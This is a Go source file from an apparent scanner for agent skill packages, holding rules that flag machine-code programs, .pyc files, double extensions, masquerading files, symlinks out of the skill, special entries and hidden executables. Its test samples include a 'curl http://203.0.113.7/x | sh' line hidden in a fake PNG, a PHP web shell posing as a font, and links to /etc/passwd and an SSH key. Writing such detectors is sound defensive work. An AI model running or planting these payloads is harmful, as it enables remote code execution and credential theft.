package rules

import (
	"bytes"
	"io/fs"
	"path"
	"slices"
	"strings"

	"github.com/symbi-ctl/symbi-ctl/pkg/skills/text"
)

// Files is the category of rules about what a skill is made of.
const Files Category = "file"

func files() []Rule {
	return []Rule{nativeExecutable(), archiveFile(), encryptedArchive(), bytecode(), doubleExtension(), masquerade(), leavingLink(), unreadable(), macroDocument(), hiddenExecutable()}
}

func nativeExecutable() Rule {
	return Rule{
		ID: "native-executable", Severity: High, Confidence: Certain, Category: Files,
		Title: "Program in machine code",
		Why:   "Nobody can read what it does, and a scanner of text does not look into it.",
		Fix:   "Ship the source, or install the program from a vendor or registry.",
		Refs:  []string{"ASI04", "AST01", "AST08", "CWE-506"},
		Fact:  factExecutable,
		Hits: []Sample{
			{Path: "bin/helper", Text: "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00"},
			{Path: "Sign.exe", Text: peSample},
			{Path: "scripts/run", Text: "\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00"},
			{Path: "lib/core.so", Text: "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00"},
		},
		Misses: []Sample{
			{Path: "assets/logo.png", Text: "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"},
			{Path: "scripts/run.sh", Text: "#!/bin/sh\necho hello\n"},
			{Path: "notes.txt", Text: "MZ is the mark of a Windows program.\n"},
			{Path: "lib/x.wasm", Text: "\x00asm\x01\x00\x00\x00"},
		},
	}
}

// peSample is the least that passes for a Windows program.
const peSample = "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00@\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x40\x00\x00\x00PE\x00\x00"

// native names the kind of machine code a file holds, "" for none.
func native(head []byte) string {
	switch {
	case bytes.HasPrefix(head, []byte("\x7fELF")):
		return "ELF"
	case bytes.HasPrefix(head, []byte("MZ")) && len(head) > 64 && bytes.IndexByte(head[:64], 0) >= 0:
		return "Windows"
	case bytes.HasPrefix(head, []byte("\xcf\xfa\xed\xfe")), bytes.HasPrefix(head, []byte("\xce\xfa\xed\xfe")), bytes.HasPrefix(head, []byte("\xfe\xed\xfa\xcf")):
		return "Mach-O"
	case bytes.HasPrefix(head, []byte("\xca\xfe\xba\xbe")) && len(head) > 8 && head[4] == 0 && head[5] == 0 && head[6] == 0 && head[7] < 20:
		return "Mach-O"
	}
	return ""
}

// factExecutable rates a library, and what a package manager put there, less
// than a program.
func factExecutable(f *File) []Hit {
	kind := native(f.Head)
	if kind == "" {
		return nil
	}
	h := Hit{Message: "Program in machine code (" + kind + ")"}
	switch path.Ext(strings.ToLower(f.Path)) {
	case ".so", ".dylib", ".dll", ".node", ".pyd", ".a", ".o":
		h.Severity = Medium
	default:
		if text.RoleOf(f.Path)&text.Vendored != 0 {
			h.Severity = Medium
		}
	}
	return []Hit{h}
}

func bytecode() Rule {
	return Rule{
		ID: "python-bytecode", Severity: Medium, Confidence: Certain, Category: Files,
		Title: "Compiled Python",
		Why:   "Python prefers a matching .pyc to the source beside it, so the code that runs need not be the code that is read.",
		Fix:   "Delete __pycache__ and the .pyc files.",
		Refs:  []string{"ASI04", "AST01", "AST08", "CWE-506"},
		Fact: func(f *File) []Hit {
			if ext := path.Ext(f.Path); (ext == ".pyc" || ext == ".pyo") && f.Encoding == text.Binary {
				return []Hit{{}}
			}
			return nil
		},
		Hits: []Sample{
			{Path: "scripts/__pycache__/run.cpython-312.pyc", Text: "\xcb\r\r\n\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe3"},
			{Path: "tool.pyc", Text: "\xa7\r\r\n\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe3"},
			{Path: "old.pyo", Text: "\x03\xf3\r\n\x00\x00\x00\x00\x63\x00\x00\x00\x00\x00\x00\x00"},
		},
		Misses: []Sample{
			{Path: "run.py", Text: "print(1)\n"},
			{Path: "notes.pyc", Text: "a text that is named so\n"},
			{Path: ".gitignore", Text: "*.pyc\n"},
		},
	}
}

func doubleExtension() Rule {
	return Rule{
		ID: "double-extension", Severity: High, Confidence: Certain, Category: Files,
		Title: "Program named like a document",
		Why:   "Windows hides the last extension: invoice.pdf.exe is shown as invoice.pdf.",
		Fix:   "Name the file by what it is.",
		Refs:  []string{"ASI09", "AST01", "CWE-451"},
		Fact: func(f *File) []Hit {
			name := strings.ToLower(path.Base(f.Path))
			inner := path.Ext(strings.TrimSpace(strings.TrimSuffix(name, path.Ext(name))))
			if slices.Contains(documentEndings(), inner) && slices.Contains(programEndings(), path.Ext(name)) || strings.Contains(name, "\u202e") {
				return []Hit{{}}
			}
			return nil
		},
		Hits: []Sample{
			{Path: "invoice.pdf.exe", Text: "x"},
			{Path: "photo.jpg.scr", Text: "x"},
			{Path: "report.docx .lnk", Text: "x"},
			{Path: "notes.txt.vbs", Text: "x"},
		},
		Misses: []Sample{
			{Path: "page.html.j2", Text: "x"},
			{Path: "data.csv.gz", Text: "x"},
			{Path: "setup.v2.exe.md", Text: "x"},
		},
	}
}

func documentEndings() []string {
	return []string{".pdf", ".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pptx", ".png", ".jpg", ".jpeg", ".gif", ".txt", ".rtf", ".mp3", ".mp4", ".csv", ".zip", ".md"}
}

func programEndings() []string {
	return []string{".exe", ".scr", ".bat", ".cmd", ".com", ".pif", ".vbs", ".vbe", ".jse", ".wsf", ".hta", ".lnk", ".msi", ".app", ".command", ".jar", ".cpl", ".desktop"}
}

func masquerade() Rule {
	return Rule{
		ID: "masquerading-file", Severity: High, Confidence: Certain, Category: Files,
		Title: "Program under the name of a picture or document",
		Why:   "The name says it is to be looked at, the content is made to be run.",
		Fix:   "Name the file by what it is.",
		Refs:  []string{"ASI04", "AST01", "CWE-434"},
		Fact:  factMasquerade,
		Hits: []Sample{
			{Path: "assets/logo.png", Text: "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"},
			{Path: "assets/manual.pdf", Text: peSample},
			{Path: "notes.txt", Text: "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00"},
			{Path: "assets/font.woff2", Text: "<?php system($_GET['c']); ?>"},
		},
		Misses: []Sample{
			{Path: "assets/logo.png", Text: "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"},
			{Path: "script.txt", Text: "#!/bin/sh\necho an example\n"},
			{Path: "assets/missing.jpg", Text: "<!DOCTYPE html><html>404</html>"},
		},
	}
}

func factMasquerade(f *File) []Hit {
	ext := path.Ext(strings.ToLower(f.Path))
	media := slices.Contains([]string{".png", ".jpg", ".jpeg", ".gif", ".webp", ".ico", ".bmp", ".pdf", ".woff", ".woff2", ".ttf", ".otf", ".mp3", ".mp4", ".wav", ".docx", ".xlsx", ".pptx"}, ext)
	readable := slices.Contains([]string{".txt", ".md", ".json", ".yaml", ".yml", ".csv", ".html", ".xml", ".toml", ".log", ".css"}, ext)
	script := bytes.HasPrefix(f.Head, []byte("#!")) || bytes.HasPrefix(f.Head, []byte("<?php")) || bytes.HasPrefix(bytes.ToLower(f.Head[:min(len(f.Head), 9)]), []byte("@echo off"))
	if (media || readable) && native(f.Head) != "" || media && script {
		return []Hit{{}}
	}
	return nil
}

func leavingLink() Rule {
	return Rule{
		ID: "link-leaves-skill", Severity: High, Confidence: Certain, Category: Files,
		Title: "Symbolic link out of the skill",
		Why:   "Whoever reads the skill reads a file of the machine it lies on: a key, a password, a configuration.",
		Fix:   "Copy the file into the skill, or refer to it by its path.",
		Refs:  []string{"ASI03", "AST01", "CWE-59"},
		Fact: func(f *File) []Hit {
			if f.Link == "" || !f.LinkLeaves {
				return nil
			}
			return []Hit{{Message: "Symbolic link out of the skill, to " + f.Link}}
		},
		Hits: []Sample{
			{Path: "data.txt", Link: "/etc/passwd"},
			{Path: "references/key.md", Link: "../../../.ssh/id_ed25519"},
			{Path: "lib", Link: "/root"},
		},
		Misses: []Sample{
			{Path: "AGENTS.md", Link: "CLAUDE.md"},
			{Path: "scripts/run", Link: "../bin/run"},
			{Path: "a.md", Text: "../../etc/passwd\n"},
		},
	}
}

func unreadable() Rule {
	return Rule{
		ID: "unreadable-entry", Severity: Medium, Confidence: Certain, Category: Files,
		Title: "Entry that cannot be read",
		Why:   "What was not read was not judged. A named pipe or a device has no business in a skill at all: it makes programs hang.",
		Fix:   "Remove it, or make it readable and scan again.",
		Refs:  []string{"AST08", "CWE-754"},
		Fact: func(f *File) []Hit {
			switch {
			case f.Special == "git submodule":
				return []Hit{{Severity: Low, Message: "Git submodule, whose files are not here"}}
			case f.Special != "":
				return []Hit{{Severity: High, Message: "Not a file: " + f.Special}}
			case f.Unreadable != "":
				return []Hit{{Severity: High, Message: "Entry that cannot be read: " + f.Unreadable}}
			}
			return nil
		},
		Hits: []Sample{
			{Path: "fifo.md", Mode: fs.ModeNamedPipe},
			{Path: "sock", Mode: fs.ModeSocket},
			{Path: "dev/zero", Mode: fs.ModeDevice},
		},
		Misses: []Sample{
			{Path: "empty.md"},
			{Path: "pipe.md", Text: "mkfifo makes a named pipe.\n"},
			{Path: "AGENTS.md", Link: "CLAUDE.md"},
		},
	}
}

func hiddenExecutable() Rule {
	return Rule{
		ID: "hidden-executable", Severity: Medium, Confidence: Certain, Category: Files,
		Title: "Hidden file that can be run",
		Why:   "Listings leave out names that begin with a dot, so the file is easily missed in a review.",
		Fix:   "Give the program a name that is shown.",
		Refs:  []string{"ASI04", "AST01", "CWE-506"},
		Fact:  factHidden,
		Hits: []Sample{
			{Path: "scripts/.helper", Text: "#!/bin/sh\necho x\n", Mode: 0o755},
			{Path: ".run.py", Text: "#!/usr/bin/env python3\nprint(1)\n", Mode: 0o755},
			{Path: "bin/.agent", Text: "\x7fELF\x02\x01\x01\x00", Mode: 0o755},
		},
		Misses: []Sample{
			{Path: ".gitignore", Text: "dist\n", Mode: 0o755},
			{Path: ".husky/pre-commit", Text: "#!/bin/sh\nnpm test\n", Mode: 0o755},
			{Path: "scripts/helper", Text: "#!/bin/sh\necho x\n", Mode: 0o755},
		},
	}
}

func factHidden(f *File) []Hit {
	name := path.Base(f.Path)
	if !f.Executable || !strings.HasPrefix(name, ".") || strings.HasPrefix(name, ".git") {
		return nil
	}
	switch {
	case native(f.Head) != "":
		return []Hit{{Severity: High}}
	case bytes.HasPrefix(f.Head, []byte("#!")):
		return []Hit{{}}
	}
	return nil
}
